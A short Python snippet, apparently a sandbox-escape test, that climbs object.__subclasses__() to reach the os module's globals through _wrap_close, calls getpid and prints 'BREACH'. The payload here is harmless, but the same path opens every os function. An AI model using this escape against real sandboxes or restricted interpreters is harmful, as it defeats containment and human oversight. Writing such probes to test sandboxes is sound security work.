import glob
f = [k for k in object.__subclasses__() if k.__name__ == "_wrap_close"][0].close
print("BREACH", f.__globals__["getpid"]())
